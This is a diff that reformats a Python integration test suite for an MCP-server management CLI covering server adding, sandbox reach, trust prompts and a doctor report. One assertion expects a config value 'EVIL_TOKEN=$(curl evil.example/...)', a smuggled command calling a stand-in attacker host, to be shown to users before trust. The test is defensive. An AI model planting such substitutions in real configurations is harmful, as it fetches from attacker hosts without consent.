@@ -17,10 +17,7 @@ import pytest
 from tests.forked import forked
 from tests.front.chat.terminal import Terminal, chat, environment
 
-pytestmark = [
-    pytest.mark.integration,
-    pytest.mark.skipif(sys.platform != "linux", reason="namespaces are Linux's"),
-]
+pytestmark = [pytest.mark.integration, pytest.mark.skipif(sys.platform != "linux", reason="namespaces are Linux's")]
 Pinfold = Callable[..., Any]
 NOTES = Path(__file__).parents[1] / "app" / "mcp" / "servers" / "notes.py"
 UP_S = 100
@@ -147,9 +144,7 @@ def test_a_server_is_added_looked_at_listed_called_and_removed(
 def test_on_a_terminal_a_server_is_shown_and_trusted_after_a_yes(
     pinfold: Pinfold, tmp_path: Path, workspace: Path, folder: Path, answer: str
 ) -> None:
-    argv = chat(
-        "mcp", "add", "notes", "--reach", "outside", "--", sys.executable, *forked(str(NOTES), str(folder))
-    )
+    argv = chat("mcp", "add", "notes", "--reach", "outside", "--", sys.executable, *forked(str(NOTES), str(folder)))
     terminal = Terminal(argv, environment(tmp_path), workspace, columns=300)
     try:
         terminal.enter("y")  # typed before it is asked
@@ -165,9 +160,7 @@ def test_on_a_terminal_a_server_is_shown_and_trusted_after_a_yes(
     assert json.loads(pinfold("mcp", "list", "--json").out)["trusted"] == (answer == "y")
 
 
-def test_a_server_on_loopback_is_added_by_its_address(
-    pinfold: Pinfold, serve: Callable[[], str], file: Path
-) -> None:
+def test_a_server_on_loopback_is_added_by_its_address(pinfold: Pinfold, serve: Callable[[], str], file: Path) -> None:
     url = serve()
     done = pinfold("mcp", "add", "notes", url, "--header", "X-Key: abc")
     assert done.code == 0, done.err
@@ -177,9 +170,7 @@ def test_a_server_on_loopback_is_added_by_its_address(
     assert pinfold("mcp", "call", "notes.note", "text=3").out == "kept 3\n"
 
 
-def test_a_sandboxed_server_says_where_it_runs(
-    pinfold: Pinfold, add: Callable[..., Any], folder: Path
-) -> None:
+def test_a_sandboxed_server_says_where_it_runs(pinfold: Pinfold, add: Callable[..., Any], folder: Path) -> None:
     (folder / "pyproject.toml").touch()
     done = add("--reach", "nothing")
     assert done.code == 1
@@ -201,11 +192,7 @@ def test_what_cannot_be_added_is_said_in_a_line_and_not_added(
         (2, ["x", "https://example.org/mcp", "--env", "A=b"], "are for servers that are started here"),
         (2, ["x", "--header", "A=b", "--", "cat"], "--header is for a URL"),
         (2, ["x", "--env", "A", "--", "cat"], "--env 'A' is wrong: write NAME=VALUE"),
-        (
-            2,
-            ["x", "--transport", "http", "--", "cat"],
-            "is a command, which does not go with --transport http",
-        ),
+        (2, ["x", "--transport", "http", "--", "cat"], "is a command, which does not go with --transport http"),
         (2, ["x", "--reach", "nothing", "--host", "a.org", "--", "cat"], "`hosts` goes with reach `network`"),
         (2, ["x", "--env", "A=${NOT_SET_ANYWHERE}", "--", "cat"], "NOT_SET_ANYWHERE is not set; give it"),
         (2, ["a b/c", "--", "cat"], "cannot be a server's name"),
@@ -238,13 +225,9 @@ def test_a_downloader_without_a_way_out_is_said_before_it_is_started_and_when_it
     assert "registry" not in pinfold("mcp", "add", "x", "--", str(npx), "pkg").err
 
 
-def test_on_a_terminal_a_server_that_takes_its_time_is_shown_to_be_waited_for(
-    tmp_path: Path, workspace: Path
-) -> None:
+def test_on_a_terminal_a_server_that_takes_its_time_is_shown_to_be_waited_for(tmp_path: Path, workspace: Path) -> None:
     wait = f"until [ -e {workspace}/go ]; do sleep 0.01; done"
-    terminal = Terminal(
-        chat("mcp", "add", "x", "--", "sh", "-c", wait), environment(tmp_path), workspace, columns=200
-    )
+    terminal = Terminal(chat("mcp", "add", "x", "--", "sh", "-c", wait), environment(tmp_path), workspace, columns=200)
     try:
         terminal.wait_on_screen("starting x · ")
         (workspace / "go").touch()
@@ -308,10 +291,7 @@ THEIRS = {
         },
         "reach": "outside",
     },
-    "far": {
-        "url": "https://mcp.example.org",
-        "headers": {"Authorization": "Bearer abcdefgh01234567", "X-A": "b"},
-    },
+    "far": {"url": "https://mcp.example.org", "headers": {"Authorization": "Bearer abcdefgh01234567", "X-A": "b"}},
 }
 
 
@@ -332,12 +312,8 @@ def test_all_that_a_projects_servers_are_given_is_shown_before_they_are_trusted(
         assert any("env HIDES=" in line and "hidden" in line and "wants nothing" in line for line in lines)
         assert "env API_TOKEN=(a secret of 16 characters, not shown)" in text
         assert "env EVIL_TOKEN=$(curl evil.example/0123456789)" in text
-        assert (
-            "runs in a sandbox of its own: may read this folder and its own program, has no network" in text
-        )
-        assert (
-            "wants to run on this machine itself; to give it that: pinfold mcp trust others --reach" in text
-        )
+        assert "runs in a sandbox of its own: may read this folder and its own program, has no network" in text
+        assert "wants to run on this machine itself; to give it that: pinfold mcp trust others --reach" in text
         assert "header Authorization: (a secret of 23 characters, not shown)" in text
         assert "header X-A: b" in text
         assert "0123456789\n" not in text
@@ -408,9 +384,7 @@ def test_the_doctor_starts_each_server_and_names_cause_and_fix(
 ) -> None:
     assert add().code == 0
     assert pinfold("mcp", "add", "gone", "--no-check", "--", "no-such-program").code == 0
-    report = json.loads(
-        pinfold("doctor", "--json", "--sandbox", "namespaces", "--wait", "50", timeout_s=60).out
-    )
+    report = json.loads(pinfold("doctor", "--json", "--sandbox", "namespaces", "--wait", "50", timeout_s=60).out)
     notes, gone = report["servers"]
     assert (notes["name"], notes["tools"], notes["cause"], notes["fix"]) == ("notes", 10, "", "")
     assert "there is no program 'no-such-program'" in gone["cause"]
@@ -419,9 +393,6 @@ def test_the_doctor_starts_each_server_and_names_cause_and_fix(
     done = pinfold("doctor", "--sandbox", "namespaces", "--wait", "50", timeout_s=60)
     page = " ".join(done.out.split())
     assert done.code == 1
-    assert (
-        "note notes this machine; 10 tools; it has changed since you agreed fix: pinfold mcp trust notes"
-        in page
-    )
+    assert "note notes this machine; 10 tools; it has changed since you agreed fix: pinfold mcp trust notes" in page
     assert "fault gone " in page
     assert "there is no program 'no-such-program'" in page
